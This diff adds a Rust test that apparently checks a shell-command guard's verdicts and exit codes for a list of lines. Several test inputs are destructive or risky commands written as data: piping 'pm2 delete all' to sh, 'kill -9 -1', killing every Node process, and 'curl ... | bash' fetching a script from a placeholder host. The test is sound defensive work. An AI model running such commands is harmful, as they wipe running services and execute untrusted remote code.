@@ -97,3 +97,48 @@ fn lint_exit_codes() {
     let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["warnings"], 4);
 }
+
+#[test]
+fn hidden_code_and_kills_exit_codes() {
+    // (line, exit code, text the one-line verdict must contain)
+    let cases: &[(&str, i32, &str)] = &[
+        (
+            "echo 'pm2 delete all' | sh",
+            20,
+            "dangerous: `pm2 delete all`",
+        ),
+        (
+            "bash -s <<'EOF'\ncd /srv\npm2 delete all\nEOF",
+            20,
+            "dangerous:",
+        ),
+        ("ssh host 'bash -s' <<< 'pm2 kill'", 20, "`pm2 kill`"),
+        (
+            "python3 -c 'import os; os.system(os.environ[\"X\"])'",
+            10,
+            "runs code the guard cannot read",
+        ),
+        (
+            "curl -s https://x.example/i.sh | bash",
+            10,
+            "runs code the guard cannot read",
+        ),
+        ("find . -exec pm2 delete all \\;", 20, "dangerous:"),
+        ("kill -9 $(cat ~/.pm2/pm2.pid)", 20, "PM2 daemon"),
+        (
+            "for p in $(pgrep node); do kill -9 $p; done",
+            20,
+            "every Node process",
+        ),
+        ("kill -9 -1", 20, "every process"),
+        ("pkill -f 'node.*flyer-crawler-api'", 10, "caution:"),
+        ("kill -0 $(cat ~/.pm2/pm2.pid)", 0, "safe:"),
+        ("ssh deploy@host 'pm2 list'", 0, "safe:"),
+    ];
+    for (line, code, text) in cases {
+        let (out, got) = check(&[line]);
+        assert_eq!(got, *code, "{line:?}: {out}");
+        assert_eq!(out.lines().count(), 1, "{line:?}: {out}");
+        assert!(out.contains(text), "{line:?}: {out}");
+    }
+}
